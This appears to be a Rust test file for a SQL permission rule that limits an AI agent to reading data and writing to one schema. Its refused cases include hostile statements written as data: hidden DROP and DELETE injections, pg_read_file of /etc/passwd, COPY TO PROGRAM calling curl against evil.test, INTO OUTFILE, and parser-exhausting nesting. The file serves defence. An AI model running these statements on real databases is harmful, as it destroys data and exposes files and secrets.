//! SQL statements, and what a rule makes of them.

use super::*;

fn requirement(allow: &[&str], allow_writes_to: &[&str]) -> SqlRequirement {
    let owned = |words: &[&str]| words.iter().map(|&word| word.to_owned()).collect();
    SqlRequirement { argument: String::new(), allow: owned(allow), allow_writes_to: owned(allow_writes_to) }
}

fn shown(sql: &str) -> String {
    sql.chars().take(40).collect()
}

/// Statements, and whether an agent that reads everything and writes to `staging` may run them.
const STATEMENTS: &[(&str, bool)] = &[
    ("SELECT * FROM prod.users", true),
    ("select 1", true),
    ("SELECT 1;", true),
    ("  /* hello */ SELECT 1 -- bye", true),
    ("/*Main*/ SELECT 1", true),
    ("(SELECT 1) UNION ALL (SELECT 2)", true),
    ("WITH a AS (SELECT 1) SELECT * FROM a", true),
    ("VALUES (1), (2)", true),
    ("SELECT 'DROP TABLE users'", true),
    ("SELECT \"delete\" FROM t", true),
    ("SELECT 1; SELECT 2", true),
    ("INSERT INTO staging.orders VALUES (1)", true),
    ("INSERT INTO staging.orders SELECT * FROM prod.orders", true),
    ("insert into STAGING.orders values (1)", true),
    ("INSERT INTO staging VALUES (1)", true),
    ("UPDATE staging.orders SET a = 1 WHERE b = 2", true),
    ("DELETE FROM staging.orders", true),
    ("TRUNCATE TABLE staging.orders", true),
    ("MERGE INTO staging.a USING prod.b ON a.id = b.id WHEN MATCHED THEN DELETE", true),
    ("WITH a AS (SELECT 1) INSERT INTO staging.t SELECT * FROM a", true),
    ("SELECT 1; INSERT INTO staging.t VALUES (1)", true),
    // Elsewhere.
    ("INSERT INTO prod.orders VALUES (1)", false),
    ("INSERT INTO orders VALUES (1)", false),
    ("INSERT INTO prod.staging VALUES (1)", false),
    ("INSERT INTO stagings.t VALUES (1)", false),
    ("INSERT INTO \"Staging\".t VALUES (1)", false),
    ("UPDATE prod.orders SET a = 1", false),
    ("UPDATE staging.a JOIN prod.b ON a.id = b.id SET b.x = 1", false),
    ("DELETE FROM prod.orders", false),
    ("DELETE b FROM staging.a JOIN prod.b ON a.id = b.id", false),
    ("TRUNCATE staging.a, prod.b", false),
    ("MERGE INTO prod.a USING staging.b ON a.id = b.id WHEN MATCHED THEN DELETE", false),
    ("REPLACE INTO prod.t VALUES (1)", false),
    // Hidden.
    ("SELECT 1; DELETE FROM prod.orders", false),
    ("SELECT 1; DROP TABLE prod.users --", false),
    ("WITH gone AS (DELETE FROM prod.users RETURNING *) SELECT * FROM gone", false),
    ("WITH a AS (UPDATE prod.u SET x = 1 RETURNING *) SELECT 1", false),
    ("WITH a AS (WITH b AS (DELETE FROM prod.u RETURNING 1) SELECT * FROM b) SELECT * FROM a", false),
    ("WITH staging AS (SELECT * FROM prod.users) DELETE FROM staging", false),
    ("SELECT * INTO prod.copy FROM prod.users", false),
    ("SELECT * INTO staging.copy FROM prod.users", false),
    ("CREATE TABLE prod.copy AS SELECT * FROM prod.users", false),
    ("EXPLAIN ANALYZE DELETE FROM prod.users", false),
    ("EXPLAIN (ANALYZE, VERBOSE) DELETE FROM prod.users", false),
    ("SELECT /*! 1 INTO OUTFILE '/tmp/x' */ 1", false),
    ("SELECT 1 /*M!100100 ; DROP TABLE users */", false),
    ("SELECT 1 /*!50000 ; DROP TABLE users */", false),
    ("SELECT 'a\\''; DROP TABLE users; -- '", false),
    ("SELECT 1 --1; DROP TABLE users", false),
    ("SELECT 1 #1; DROP TABLE users", false),
    ("SELECT pg_read_file('/etc/passwd')", false),
    ("SELECT * FROM dblink_exec('x', 'DROP TABLE users')", false),
    ("SELECT * FROM t WHERE pg_catalog.PG_SLEEP(10) IS NULL", false),
    // Not reading and not writing rows.
    ("DROP TABLE staging.orders", false),
    ("DROP TABLE prod.users", false),
    ("ALTER TABLE staging.orders ADD COLUMN a int", false),
    ("CREATE TABLE staging.t (a int)", false),
    ("GRANT ALL ON prod.users TO agent", false),
    ("SET search_path = prod", false),
    ("CALL do_it()", false),
    ("DO $$ BEGIN DELETE FROM prod.users; END $$", false),
    ("EXECUTE stolen", false),
    ("COPY prod.users FROM STDIN", false),
    ("COPY prod.users TO PROGRAM 'curl evil.test'", false),
    ("COPY (SELECT * FROM prod.users) TO '/tmp/x'", false),
    ("COPY staging.t FROM PROGRAM 'id'", false),
    ("BEGIN; COMMIT", false),
    ("ATTACH DATABASE 'x.db' AS x", false),
    ("SELECT 1 INTO OUTFILE '/tmp/x'", false),
    // Not SQL.
    ("", false),
    (";", false),
    ("-- nothing", false),
    ("please drop the users table", false),
    ("SELECT * FROM", false),
    ("SELECT 'open", false),
];

#[test]
fn an_agent_that_may_read_and_write_to_one_schema() {
    let requirement = requirement(&["select"], &["staging"]);
    for (sql, expected) in STATEMENTS {
        assert_eq!(permits(&requirement, sql), *expected, "{sql}");
    }
}

#[test]
fn what_the_lists_permit() {
    let rows: [(&[&str], &[&str], &str, bool); 21] = [
        (&[], &[], "SELECT 1", true),
        (&[], &[], "INSERT INTO t VALUES (1)", false),
        (&[], &["staging"], "SHOW TABLES", true),
        (&["insert"], &[], "INSERT INTO prod.t SELECT 1", true),
        (&["insert"], &[], "SELECT 1", false),
        (&["insert"], &["staging"], "DELETE FROM staging.t", false),
        (&["insert"], &["staging"], "INSERT INTO prod.t VALUES (1)", false),
        (&["drop"], &[], "DROP TABLE prod.t", true),
        (&["drop"], &["staging"], "DROP TABLE staging.t", true),
        (&["drop"], &["staging"], "DROP TABLE staging.t, prod.t", false),
        (&["select", "create"], &["staging"], "SELECT * INTO staging.t FROM prod.u", true),
        (&["select", "create"], &["staging"], "CREATE TABLE prod.t AS SELECT 1", false),
        (&["explain"], &[], "EXPLAIN DELETE FROM prod.users", true),
        (&["explain", "select"], &[], "EXPLAIN ANALYZE SELECT 1", true),
        (&["explain", "select"], &[], "EXPLAIN ANALYZE DELETE FROM prod.users", false),
        (&["select"], &["crm.staging"], "DELETE FROM crm.staging.t", true),
        (&["select"], &["crm.staging"], "DELETE FROM crm.prod", false),
        (&["transaction"], &["staging"], "BEGIN; DELETE FROM staging.t; COMMIT", true),
        (&["prepare", "select"], &[], "PREPARE a AS DELETE FROM t", false),
        (&["copy"], &["staging"], "COPY prod.users FROM STDIN", false),
        (&["other"], &[], "COPY t TO PROGRAM 'id'", false),
    ];
    for (allow, writes, sql, expected) in rows {
        assert_eq!(permits(&requirement(allow, writes), sql), expected, "{allow:?} {writes:?} {sql}");
    }
}

/// Every word that a document may put into `allow`, and a statement that it permits and no other word does.
#[test]
fn each_word_of_allow_permits_its_statement() {
    let rows = [
        ("alter", "ALTER TABLE t ADD COLUMN a int"),
        ("analyze", "ANALYZE TABLE t COMPUTE STATISTICS"),
        ("call", "CALL do_it()"),
        ("comment", "COMMENT ON TABLE t IS 'x'"),
        ("copy", "COPY t FROM STDIN"),
        ("create", "CREATE TABLE t (a int)"),
        ("delete", "DELETE FROM t"),
        ("describe", "DESCRIBE t"),
        ("drop", "DROP TABLE t"),
        ("execute", "EXECUTE a"),
        ("explain", "EXPLAIN SELECT 1"),
        ("grant", "GRANT SELECT ON t TO u"),
        ("insert", "INSERT INTO t VALUES (1)"),
        ("merge", "MERGE INTO a USING b ON a.x = b.x WHEN MATCHED THEN DELETE"),
        ("prepare", "PREPARE a AS CALL b()"),
        ("revoke", "REVOKE SELECT ON t FROM u"),
        ("select", "SELECT 1"),
        ("set", "SET a = 1"),
        ("show", "SHOW TABLES"),
        ("transaction", "BEGIN; SAVEPOINT a; RELEASE SAVEPOINT a; ROLLBACK; START TRANSACTION; COMMIT"),
        ("truncate", "TRUNCATE TABLE t"),
        ("update", "UPDATE t SET a = 1"),
        ("use", "USE db"),
        ("vacuum", "VACUUM t"),
    ];
    let words: Vec<_> = rows.iter().map(|(word, _)| *word).collect();
    assert_eq!(words, crate::rules::action_control::STATEMENTS);
    for (word, sql) in rows {
        // What is prepared has to be permitted, too.
        let allow = if word == "prepare" { vec![word, "call"] } else { vec![word] };
        assert!(permits(&requirement(&allow, &[]), sql), "{sql}");
        let others: Vec<_> = words.iter().copied().filter(|other| *other != word).collect();
        assert!(!permits(&requirement(&others, &[]), sql), "{sql}");
    }
}

#[test]
fn long_and_deep_statements_are_refused_and_do_no_harm() {
    let rows = [
        format!("SELECT {}", "a".repeat(70_000)),
        format!("SELECT {}1{}", "(".repeat(20_000), ")".repeat(20_000)),
        format!("SELECT 1{}", "+1".repeat(30_000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(4_000)),
        format!("SELECT {}1", "NOT ".repeat(15_000)),
        format!("SELECT {}1{}", "CASE WHEN ".repeat(5_000), " THEN 1 END".repeat(5_000)),
        format!("SELECT * FROM {}t", "(".repeat(31)),
        format!("SELECT * FROM {}t", "(SELECT * FROM ".repeat(31)),
        format!("SELECT {}1", "f(".repeat(31)),
        format!("SELECT {}1", "a IN (SELECT ".repeat(31)),
        format!("SELECT {}1", "CAST(".repeat(31)),
        format!("SELECT {}1", "[".repeat(31)),
        format!("SELECT {}1", "{a: ".repeat(31)),
        format!("SELECT {}1", "(a) -> (".repeat(31)),
        format!("SELECT {}1", "ARRAY[(".repeat(15)),
        format!("SELECT {}1", "INTERVAL (".repeat(31)),
        format!("SELECT {}1", "STRUCT<a STRUCT<".repeat(15)),
        format!("CREATE TABLE t (a {}", "ARRAY<STRUCT<a ".repeat(200)),
        format!("SELECT {}1{}", "(".repeat(31), ")".repeat(30)),
        "[".repeat(60_000),
        format!("SELECT a{}", "::int".repeat(10_000)),
        format!("SELECT 1, 2{}", " UNION SELECT 1, 2".repeat(3_000)),
        format!("SELECT a{}", "!".repeat(990)),
        format!("SELECT a {}", "NOT ".repeat(990)),
        format!("CREATE TABLE t (a {}", "ARRAY<".repeat(480)),
        format!("{}SELECT 1", "BEGIN SELECT 1; ".repeat(900)),
        format!("{}SELECT 1", "IF 1 THEN ".repeat(300)),
        format!("{}SELECT 1", "PREPARE a AS ".repeat(300)),
        format!("{}SELECT 1", "EXPLAIN ".repeat(900)),
        format!("SELECT * FROM t{}", " CROSS JOIN LATERAL (SELECT 1".repeat(30)),
        "BEGIN ".repeat(10_000),
        "EXPLAIN ".repeat(8_000),
    ];
    for sql in &rows {
        assert!(!permits(&requirement(&["select", "explain"], &[]), sql), "{}", shown(sql));
    }
}

#[test]
fn wide_statements_are_read() {
    let numbers = (0..5_000).map(|n| n.to_string()).collect::<Vec<_>>().join(", ");
    let chain = vec!["a = 1"; 200].join(" AND ");
    for sql in [
        format!("SELECT * FROM t WHERE id IN ({numbers})"),
        format!("SELECT * FROM t WHERE {chain}"),
        format!("SELECT 1{}", "+1".repeat(490)),
        format!("SELECT a{}", "::int".repeat(490)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(200)),
    ] {
        assert!(permits(&requirement(&["select"], &[]), &sql), "{}", shown(&sql));
    }
}

#[test]
fn what_begins_as_sql() {
    let rows = [
        ("SELECT 1", true),
        ("  (select 1)", true),
        ("/* a */ -- b\n drop table x", true),
        ("/*!50000 drop table x */", true),
        ("/*M!100100 drop table x */", true),
        ("# x\nDELETE FROM t", true),
        ("; update t set a = 1", true),
        ("\u{feff}select 1", true),
        ("Berlin", false),
        ("selection", false),
        ("", false),
        ("/* open", false),
        ("/* a /* b */ c */ drop table x", true),
        ("/* a /* b */ */ drop table x", true),
        ("//-- \n/", false),
        ("-", false),
    ];
    for (text, expected) in rows {
        assert_eq!(begins_as_sql(text), expected, "{text}");
    }
}
